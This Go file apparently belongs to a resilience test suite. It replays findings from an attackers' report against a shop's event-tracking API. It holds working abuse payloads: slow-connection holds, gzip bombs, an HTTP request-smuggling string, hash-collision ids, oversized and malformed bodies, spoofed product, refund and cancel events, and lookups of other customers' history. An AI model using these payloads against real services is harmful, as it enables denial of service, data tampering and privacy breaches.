package attack

import (
	"bytes"
	"context"
	"fmt"
	"strings"
	"sync"
	"time"
)

// kinds is every kind of attack, with the finding of the attackers' report that it repeats.
var kinds = []kind{
	{"silent bodies", 200, time.Second, func(ctx context.Context, a *attacker) error { // F1
		return a.hold(ctx, "POST /v1/events HTTP/1.1\r\nHost: shop.example\r\nContent-Length: 5242880\r\n\r\n", "")
	}},
	{"silent bodies with the key", 100, time.Second, func(ctx context.Context, a *attacker) error {
		return a.hold(ctx, "POST /v1/events HTTP/1.1\r\nHost: shop.example\r\nAuthorization: Bearer "+writeKey+"\r\nContent-Length: 5242880\r\n\r\n[", "")
	}},
	{"slow heads", 100, time.Second, func(ctx context.Context, a *attacker) error {
		return a.hold(ctx, "GET /v1/frames/home_page HTTP/1.1\r\n", "X-Header: y\r\n")
	}},
	{"silent connections", 200, time.Second, func(ctx context.Context, a *attacker) error { return a.hold(ctx, "", "") }},
	{"bomb of frames", 2, 500 * time.Millisecond, func(ctx context.Context, a *attacker) error { // F2
		return a.post(ctx, "/v1/frames", bombs.frames(), "Content-Encoding: gzip")
	}},
	{"bomb of events", 1, 2 * time.Second, func(ctx context.Context, a *attacker) error {
		return a.post(ctx, "/v1/events", bombs.events(), "Content-Encoding: gzip")
	}},
	{"what only the shop knows", 2, 200 * time.Millisecond, func(ctx context.Context, a *attacker) error { // F3, F9
		return a.events(ctx, 20, func(i int) string { return notAllowed[i%len(notAllowed)](i) })
	}},
	{"somebody's history", 1, 100 * time.Millisecond, func(ctx context.Context, a *attacker) error { // F4
		n := int(a.n.Load())
		if n%2 == 0 {
			return a.get(ctx, fmt.Sprintf("/v1/frames/buy_again?contact=c%07d%%40shop.example", n%1000))
		}
		return a.events(ctx, 5, func(i int) string {
			return fmt.Sprintf(`{"event":"identify","visitor":"evil-%d","contact":"c%07d@shop.example","props":{"name":"Mallory","bot":true}}`, i%100, i%1000)
		})
	}},
	{"made-up names", 2, 400 * time.Millisecond, func(ctx context.Context, a *attacker) error { // F5, F14
		return a.events(ctx, 500, func(i int) string {
			return fmt.Sprintf(`{"event":"view_item","visitor":"made-up-%d-%d","items":[{"item_id":"made-up-%d","item_category":"a%d > b > c > d > e > f > g > h"}]}`, a.i, i, i, i)
		})
	}},
	{"made-up shops and events", 1, 500 * time.Millisecond, func(ctx context.Context, a *attacker) error { // F6, F14
		return a.events(ctx, 200, func(i int) string {
			if i%2 == 0 {
				return fmt.Sprintf(`{"event":"identify","shop":"s%x","contact":"c"}`, i)
			}
			return fmt.Sprintf(`{"event":"invented_%d","visitor":"v"}`, i)
		})
	}},
	{"clocks", 1, 300 * time.Millisecond, func(ctx context.Context, a *attacker) error { // F7
		now := time.Now()
		return a.events(ctx, 50, func(i int) string {
			at := now.Add(23 * time.Hour)
			if i%2 == 0 {
				at = now.Add(-time.Duration(i%44) * 24 * time.Hour)
			}
			return fmt.Sprintf(`{"event":"view_item","visitor":"clock-%d","time":%d,"items":[{"item_id":"EVIL"}]}`, i%7, at.UnixMilli())
		})
	}},
	{"crafted ids", 1, 500 * time.Millisecond, func(ctx context.Context, a *attacker) error { // F11
		ids := crafted()
		return a.events(ctx, 500, func(i int) string {
			return fmt.Sprintf(`{"event":"view_item","visitor":"%s","items":[{"item_id":"%s"}]}`, ids[(i/2)%len(ids)], ids[i%len(ids)])
		})
	}},
	{"dear events", 1, 400 * time.Millisecond, func(ctx context.Context, a *attacker) error { // F12
		now := time.Now().UnixMilli()
		return a.events(ctx, 200, func(i int) string {
			return fmt.Sprintf(`{"event":"purchase","visitor":"dear","time":%d,"order":"dear-%d","value":1,"currency":"EUR","items":[{"item_id":"EVIL"}]}`, now-int64(i), i)
		})
	}},
	{"bursts", 1, 200 * time.Millisecond, func(ctx context.Context, a *attacker) error { // B3
		return a.events(ctx, 200, func(i int) string {
			return fmt.Sprintf(`{"event":"view_item","visitor":"burst-%d","items":[{"item_id":"EVIL"}]}`, i/40)
		})
	}},
	{"events of a MiB", 1, 2 * time.Second, func(ctx context.Context, a *attacker) error { // F13
		return a.post(ctx, "/v1/events", []byte(`[{"event":"page_view","visitor":"v","x":"`+strings.Repeat("y", 1_000_000)+`"},{"event":"page_view","visitor":"good"}]`))
	}},
	{"no JSON", 1, 200 * time.Millisecond, func(ctx context.Context, a *attacker) error { // A24
		return a.post(ctx, "/v1/events", broken()[int(a.n.Load())%len(broken())])
	}},
	{"no HTTP", 4, 100 * time.Millisecond, func(ctx context.Context, a *attacker) error { // A17, A18
		return a.hold(ctx, noHTTP[int(a.n.Load())%len(noHTTP)], "")
	}},
	{"never reading", 20, time.Second, func(ctx context.Context, a *attacker) error { // A19
		one := "GET /openapi.yaml HTTP/1.1\r\nHost: shop.example\r\n\r\n"
		c, done, err := a.dial(ctx)
		if err != nil {
			return err
		}
		defer done()
		c.SetWriteDeadline(time.Now().Add(30 * time.Second))
		_, err = c.Write(bytes.Repeat([]byte(one), 10_000))
		return err
	}},
	{"dear requests", 2, 50 * time.Millisecond, func(ctx context.Context, a *attacker) error { // B6
		ids := crafted()
		return a.get(ctx, "/v1/frames/cart_page?n=100&visitor=x&cart="+strings.Join(ids[:100], ",")+"&exclude="+strings.Join(ids[100:200], ","))
	}},
}

// notAllowed is what only the shop may say.
var notAllowed = []func(i int) string{
	func(int) string {
		return `{"event":"product_upsert","items":[{"item_id":"EVIL","title":"free","url":"https://phish.example","price":0.01}]}`
	},
	func(i int) string {
		return fmt.Sprintf(`{"event":"product_remove","items":[{"item_id":"i%d"}]}`, i%1000)
	},
	func(i int) string {
		return fmt.Sprintf(`{"event":"product_stock","items":[{"item_id":"i%d","quantity":0}]}`, i%1000)
	},
	func(i int) string {
		return fmt.Sprintf(`{"event":"purchase","visitor":"v","order":"%d","value":1e12,"currency":"EUR"}`, 1000+i)
	},
	func(i int) string {
		return fmt.Sprintf(`{"event":"refund","visitor":"v","order":"%d","value":1e12,"currency":"EUR"}`, 1000+i)
	},
	func(i int) string { return fmt.Sprintf(`{"event":"cancel","visitor":"v","order":"%d"}`, 1000+i) },
	func(i int) string {
		return fmt.Sprintf(`{"event":"email_sent","contact":"c%07d@shop.example"}`, i%1000)
	},
	func(i int) string {
		return fmt.Sprintf(`{"event":"page_view","visitor":"v","trust":"secret","contact":"c%07d@shop.example"}`, i%1000)
	},
}

// broken are bodies that are no events.
var broken = sync.OnceValue(func() [][]byte {
	return [][]byte{
		bytes.Repeat([]byte("["), 450_000), []byte(`{"event":`), []byte("\x00\xff"), []byte(strings.Repeat("{}\n", 100_000)),
		[]byte(`{"event":"purchase","visitor":"v","value":1e400}`), []byte(`{"event":"page_view","visitor":"\ud800"}`),
		[]byte(`{"event":"page_view","visitor":"v",` + strings.Repeat(`"k":1,`, 80_000) + `"k":1}`),
	}
})

// noHTTP are requests that are none.
var noHTTP = []string{
	"POST /v1/events HTTP/1.1\r\nHost: shop.example\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\n\r\n",
	"GET / HTTP/9.9\r\nHost: shop.example\r\n\r\n", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
	"GET /" + strings.Repeat("a", 20_000) + " HTTP/1.1\r\nHost: shop.example\r\n\r\n",
	"GET / HTTP/1.1\r\nHost: shop.example\r\n" + strings.Repeat("X-A: b\r\n", 3_000) + "\r\n",
	"POST /v1/events HTTP/1.1\r\nHost: shop.example\r\nTransfer-Encoding: chunked\r\n\r\n7fffffffffffffff\r\n",
}

// crafted are ids whose unseeded hashes are alike in their upper bits.
var crafted = sync.OnceValue(func() []string { return craft(500) })
